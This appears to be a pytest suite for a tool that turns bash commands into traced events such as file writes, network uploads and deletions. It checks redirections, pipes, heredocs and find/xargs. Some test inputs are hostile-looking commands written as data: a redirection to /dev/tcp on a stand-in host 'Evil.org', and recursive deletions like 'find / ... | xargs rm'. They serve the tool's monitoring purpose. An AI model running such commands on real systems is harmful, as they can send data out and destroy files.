"""What commands read from their standard input and write to their standard output."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from abstraction_support import abstracted, bash, shown

if TYPE_CHECKING:
    from vigil_lang.trace import Event


def steps(command: str, *roles: str) -> list[tuple[str, ...]]:
    """Action and roles of each step of a call."""
    return [each[1:] for each in shown(abstracted([bash("t", command)])[1:], *roles)]


def one(command: str, action: str) -> Event:
    (found,) = [event for event in abstracted([bash("t", command)]) if event.action == action]
    return found


# --- redirections ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("redirection", "kind"),
    [
        ("> a", "file.write"),
        (">| a", "file.write"),
        (">> a", "file.append"),
        ("2> a", "file.write"),
        ("2>> a", "file.append"),
        ("&> a", "file.write"),
        (">& a", "file.write"),
        ("&>> a", "file.append"),
        ("<> a", "file.edit"),
        ("> sub/../a", "file.write"),
        ('> "a"', "file.write"),
    ],
)
def test_a_redirection_to_a_file_is_a_step_behind_the_program(redirection: str, kind: str) -> None:
    assert steps(f"frob {redirection}", "path", "program") == [("frob", "-", "frob"), (kind, "/repo/a", "frob")]


def test_what_is_read_comes_before_the_program() -> None:
    assert steps("frob < a > b", "path", "program") == [
        ("file.read", "/repo/a", "frob"),
        ("frob", "-", "frob"),
        ("file.write", "/repo/b", "frob"),
    ]


@pytest.mark.parametrize(
    "redirection",
    [
        "> /dev/null",
        "2>&1",
        "> /dev/stderr",
        "< /dev/stdin",
        "2>&-",
        "> /dev/tty",
        "&> /dev/null",
        "<&3",
        "> /dev/fd/2",
    ],
)
def test_devices_and_descriptors_are_no_files(redirection: str) -> None:
    assert [step[0] for step in steps(f"frob {redirection}")] == ["frob"]


def test_a_redirection_alone_empties_a_file() -> None:
    assert steps("> a", "path", "program") == [("file.write", "/repo/a", "-")]


def test_a_file_whose_name_is_not_known_is_unresolved() -> None:
    event = one('frob > "$OUT"', "file.write")
    assert ("path" in event.args, event.args["unresolved"]) == (False, ("path",))


@pytest.mark.parametrize(("op", "kind"), [(">", "net.upload"), ("<", "net.request"), ("<>", "net.upload")])
def test_a_socket_of_the_shell_is_no_file(op: str, kind: str) -> None:
    event = one(f"frob {op} /dev/tcp/Evil.org/80", kind)
    assert (event.args["host"], event.args["port"], "path" in event.args) == (("evil.org",), ("80",), False)


def test_where_the_output_goes_is_a_role_of_the_program() -> None:
    assert one("frob > a", "frob").args["piped_to"] == ("/repo/a",)
    assert one("frob >> $X", "frob").args["piped_to"] == ("$X",)
    assert one("frob 1> a", "frob").args["piped_to"] == ("/repo/a",)
    assert "piped_to" not in one("frob 2> a", "frob").args


# --- what files are left with ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "text"),
    [
        ("echo x y > a", "x y\n"),
        ("echo -n x > a", "x"),
        ("echo -E x > a", "x\n"),
        ("echo > a", "\n"),
        ("printf x > a", "x"),
        ("printf %s x > a", "x"),
        ("printf '%s\\n' x > a", "x\n"),
        ("cat > a <<'EOF'\nx\n$Y\nEOF", "x\n$Y\n"),
        ("cat - > a <<X\nx\nX", "x\n"),
        ("cat - > a <<< x", "x\n"),
        ("echo x | cat > a", "x\n"),
        ("echo x > b; cat b > a", "x\n"),
        ("echo x > b; echo y > c; cat b c > a", "x\ny\n"),
        ("echo x > b; cat < b > a", "x\n"),
        ("/bin/echo x > a", "x\n"),
    ],
)
def test_the_text_that_is_written_is_known(command: str, text: str) -> None:
    event = abstracted([bash("t", command)])[-1]
    assert (event.action, event.args["path"], event.args["text"]) == ("file.write", ("/repo/a",), (text,))


@pytest.mark.parametrize(
    "command",
    [
        "echo -e 'x\\n' > a",
        "echo $X > a",
        "echo *.py > a",
        "printf '%d\\n' 7 > a",
        "printf '%s %s' x y > a",
        "printf 'x\\n' > a",
        "cat b > a",
        "cat -n b > a",
        "cat < b > a",
        "frob | cat > a",
        "cat > a <<EOF\n$X\nEOF",
        "echo x > b; frob b; rm b; cat b > a",
        "echo x 2> a",
        "frob > a",
    ],
)
def test_a_text_that_is_not_known_is_not_told(command: str) -> None:
    event = abstracted([bash("t", command)])[-1]
    assert (event.action, event.args["path"]) == ("file.write", ("/repo/a",))
    assert "text" not in event.args


def test_what_is_appended_is_known_as_such() -> None:
    assert one("echo x >> a", "file.append").args["text"] == ("x\n",)
    (event,) = [
        e for e in abstracted([bash("t", "echo x > a; echo y >> a; cat a > b")]) if e.args.get("path") == ("/repo/b",)
    ]
    assert event.args["text"] == ("x\ny\n",)


# --- pipes -------------------------------------------------------------------------------------------------


def test_what_feeds_a_program_is_named_the_nearest_first() -> None:
    assert one("a | b | c", "c").args["piped_from"] == ("b", "a")
    assert one("a | b | c", "a").args["piped_to"] == ("b",)
    assert one("sudo env | sort", "sort").args["piped_from"] == ("env",)
    assert "piped_from" not in one("a; c", "c").args
    assert one("{ a; b; } | c", "c").args["piped_from"][0] == "b"


def test_what_is_given_in_place_is_standard_input() -> None:
    assert one("frob <<< x", "frob").args["stdin"] == ("x\n",)
    assert one("echo x | frob", "frob").args["stdin"] == ("x\n",)
    assert one("frob <<EOF\nx\nEOF", "frob").args["stdin"] == ("x\n",)
    assert one("frob <<< $X", "frob").args["unresolved"] == ("effects", "stdin")
    assert "stdin" not in one("a | frob", "frob").args


@pytest.mark.parametrize(
    ("command", "paths"),
    [
        ("find . -exec rm {} +", ("/repo", "/repo/*")),
        ("find . -type d -exec rm {} +", ("/repo", "/repo/*")),
        ("find . -type f -exec rm {} +", ("/repo/*",)),
        (
            "find a b -name '*.c' -o -iname '*.h' | xargs rm",
            ("/repo/a/*.c", "/repo/a/*.h", "/repo/b/*.c", "/repo/b/*.h"),
        ),
        ("find / -name x | xargs -I{} rm {}", ("/*x",)),
        ("printf 'a\\n' | xargs rm", ()),
        ("xargs rm <<< 'a b'", ("/repo/a", "/repo/b")),
        ("gfind . -name x -exec rm {} ';'", ("/repo/*x",)),
    ],
)
def test_what_is_found_is_a_pattern(command: str, paths: tuple[str, ...]) -> None:
    rm = one(command, "rm")
    assert rm.args.get("path", ()) == paths
    assert ("path" in rm.args.get("unresolved", ())) == (not paths)


def test_no_end_of_words_is_fed() -> None:
    rm = one("xargs rm <<< '" + " ".join(map(str, range(5000))) + "'", "rm")
    assert len(rm.args["path"]) == 100
